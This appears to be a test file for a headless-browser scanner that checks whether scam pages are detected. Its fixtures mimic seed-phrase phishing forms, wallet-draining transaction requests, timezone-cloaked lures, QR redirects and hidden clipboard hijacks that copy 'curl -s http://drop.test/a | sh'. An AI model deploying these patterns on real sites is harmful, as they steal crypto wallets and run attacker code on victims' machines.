import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import encodeQR from 'qr'
import { ACCOUNT, browsePages } from './testing/browsePages.ts'
import { findChromium } from './testing/chromium.ts'

const page = (body: string) => `<!doctype html><title>Page</title>${body}`

describe('what a visitor reaches of a page', { skip: findChromium().skip, timeout: 240_000 }, () => {
  it('is what a frame of another site asks for', async () => {
    const { browsing, documents } = await browsePages({
      '/': page('<h1>Help</h1><iframe src="http://shop.elsewhere.test/chat" width="400" height="400"></iframe>'),
      '/chat': page(`<p>Chat</p><button id="open">Balance is missing</button><script>
document.getElementById('open').onclick = () => { document.body.innerHTML = '<p>A form</p>' + Array.from({ length: 12 }, (_, at) => '<input size="6" placeholder="' + (at + 1) + '">').join('') + '<button id="send">Send</button>'
document.getElementById('send').onclick = () => { const words = [...document.querySelectorAll('input')].map((one) => one.value).join(' '); if (/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/.test(words)) fetch('/kept', { method: 'POST', body: words }) } }</script>`),
    })
    assert.deepEqual(
      browsing.typed.map(({ kind, host }) => `${kind} ${host}`),
      ['phrase shop.elsewhere.test'],
    )
    const foreign = documents.filter(({ isForeign }) => isForeign)
    assert.equal(
      foreign.some(({ html }) => html.includes('placeholder="12"')),
      true,
    )
  })

  it('is the account that a field wants, and no account where a key is wanted', async () => {
    const { browsing } = await browsePages({
      '/': page(`<input id="of" placeholder="0x…"><input id="key" placeholder="Private key 0x…"><button id="go">Check</button><script>
document.getElementById('go').onclick = () => { alert(document.getElementById('of').value + ' ' + /0x/.test(document.getElementById('key').value)) }</script>`),
    })
    assert.equal(browsing.dialogs[0], `alert: ${ACCOUNT} false`)
  })

  it('is where a QR code leads, as a window of its own', async () => {
    const code = (to: string) =>
      `<img width="260" height="260" src="data:image/gif;base64,${Buffer.from(encodeQR(to, 'gif', { scale: 6 })).toString('base64')}">`
    const asks = page(`<button id="b">Receive</button><script>
document.getElementById('b').onclick = async () => { const [from] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x${'12'.repeat(20)}', value: '0x1' }] }) }</script>`)
    const pages = {
      '/': page(`<h1>Scan to receive</h1>${code('http://shop.elsewhere.test/go')}`),
      '/go': (_, response) => response.writeHead(302, { location: 'http://shop.further.test/pay' }).end(),
      '/pay': `${asks}<p id="zone"></p><script>zone.textContent = Intl.DateTimeFormat().resolvedOptions().timeZone</script>`,
    } satisfies Parameters<typeof browsePages>[0]
    // A machine that is busy with other things may not read the picture in time: it is asked again, and has to at last.
    let browsed = await browsePages(pages, { limits: { visitMs: 60_000 } })
    for (let tries = 1; tries < 4 && browsed.browsing.cutOff === 'codes'; tries++)
      browsed = await browsePages(pages, { limits: { visitMs: 60_000 } })
    const { asked, browsing, documents } = browsed
    assert.equal(browsing.codes[0]?.kind, 'link')
    assert.deepEqual(
      asked.map(({ method }) => method),
      ['eth_requestAccounts', 'eth_sendTransaction'],
    )
    // Wherever it leads to in the end, and as the visitor who opened it. The zone has two names.
    const led = documents.filter(({ isForeign }) => isForeign).map(({ html }) => html)
    assert.equal(
      led.some((html) => /Asia\/(?:Ho_Chi_Minh|Saigon)/.test(html)),
      true,
    )
  })

  it('is what is shown at the other side of the world', async () => {
    const { browsing } = await browsePages({
      '/': page(`<p id="t">Soup</p><script>
if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Asia/')) document.body.innerHTML = '<button id="b">Gift</button>', document.getElementById('b').onclick = () => ethereum.request({ method: 'eth_requestAccounts' })</script>`),
    })
    assert.deepEqual(
      browsing.requests.map(({ method }) => method),
      ['eth_requestAccounts'],
    )
  })

  it('is what a frame of another site shows there', async () => {
    const { browsing } = await browsePages({
      '/': page('<p>Soup</p><iframe src="http://shop.elsewhere.test/in" width="400" height="400"></iframe>'),
      '/in': page(`<script>
if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Asia/')) alert('Gift')</script>`),
    })
    assert.deepEqual(browsing.dialogs, ['alert: Gift'])
  })

  it('is the end of a long page, and not a text that a box around it cuts off', async () => {
    const { browsing } = await browsePages({
      '/': page(`<div style="height:40px;overflow:hidden"><p style="height:40px">Seen</p><textarea id="c" readonly>curl -s http://drop.test/a | sh</textarea></div>
<div style="height:30000px"></div><button id="b">Copy</button><script>
addEventListener('scroll', () => { if (scrollY > 20000) document.getElementById('b').textContent = 'Copy now' })
document.getElementById('b').onclick = () => { alert(document.getElementById('b').textContent); document.getElementById('c').select(); document.execCommand('copy') }</script>`),
    })
    assert.equal(browsing.dialogs[0], 'alert: Copy now')
    assert.equal(browsing.copies[0]?.shown, false)
  })

  it('is what stands further down in a part that scrolls by itself, and not what lies outside of it', async () => {
    const copy = (
      command: string,
      style = '',
    ) => `<textarea id="c" readonly style="${style}">${command}</textarea><button id="b">Copy</button><script>
document.getElementById('b').onclick = () => { document.getElementById('c').select(); document.execCommand('copy') }</script>`
    const pane = (inside: string) =>
      page(`<style>body{margin:0}#app{height:100vh;overflow:hidden}main{height:100%;overflow:auto;position:relative}</style>
<div id="app"><main><div style="height:3000px">Install</div>${inside}</main></div>`)
    const honest = await browsePages({ '/': pane(copy('curl -s http://drop.test/a | sh')) })
    assert.equal(honest.browsing.copies[0]?.shown, true)
    const hostile = await browsePages({
      '/': pane(copy('curl -s http://drop.test/a | sh', 'position:absolute;top:-900px')),
    })
    assert.equal(hostile.browsing.copies[0]?.shown, false)
  })

  it('is a phrase in each field that wants one, in any language, and an account only where one of a wallet is wanted', async () => {
    const wanted = [
      'cüzdan kurtarma kelimeleri',
      'Сид-фраза или адрес кошелька',
      '助记词或钱包地址',
      'メールアドレス',
      'Wallet address',
    ]
    const { browsing } = await browsePages({
      '/': page(`${wanted.map((one) => `<input placeholder="${one}">`).join('')}<input name="addr"><button id="go">Check</button><script>
document.getElementById('go').onclick = () => { alert([...document.querySelectorAll('input')].map((one) => /^0x/.test(one.value) ? 'account' : one.value.split(' ').length > 9 ? 'words' : one.value)) }</script>`),
    })
    assert.equal(browsing.dialogs[0], 'alert: words,words,words,words,account,words')
  })

  it('is a phrase in a field that says it takes an account and takes nothing else', async () => {
    const { browsing } = await browsePages({
      '/': page(`<p>Words, please</p><input placeholder="Wallet address"><button id="go">Go</button><script>
document.getElementById('go').onclick = () => { const { value } = document.querySelector('input'); if (/^(?:[a-z]{3,8} ){11}[a-z]{3,8}$/.test(value)) fetch('/kept', { method: 'POST', body: value }) }</script>`),
    })
    assert.deepEqual(
      browsing.typed.map(({ kind }) => kind),
      ['phrase'],
    )
  })

  it('is the largest frames of other sites, and none that was taken away', async () => {
    const frame = (size: number, name: string) =>
      `<iframe id="${name}" src="http://shop.elsewhere.test/${name}" width="${size}" height="${size}"></iframe>`
    const inside = (name: string) => page(`<button onclick="alert('${name}')">Continue</button>`)
    const { browsing } = await browsePages({
      '/': page(
        `${frame(90, 'ad')}${frame(120, 'badge')}${frame(1, 'pixel')}${frame(500, 'gone')}${frame(400, 'chat')}<script>
setTimeout(() => document.getElementById('gone').remove(), 100)</script>`,
      ),
      ...Object.fromEntries(['ad', 'badge', 'pixel', 'gone', 'chat'].map((name) => [`/${name}`, inside(name)])),
    })
    assert.deepEqual([...new Set(browsing.dialogs)].toSorted(), ['alert: badge', 'alert: chat'])
  })

  it('is a field that the page wrote a text into to be copied, as it was', async () => {
    const { browsing } = await browsePages({
      '/': page(`<div id="c" contenteditable="true">npm install tide-tables</div><button id="b">Copy</button><script>
document.getElementById('b').onclick = () => { getSelection().selectAllChildren(document.getElementById('c')); document.execCommand('copy') }</script>`),
    })
    assert.equal(browsing.copies[0]?.text, 'npm install tide-tables')
  })
})
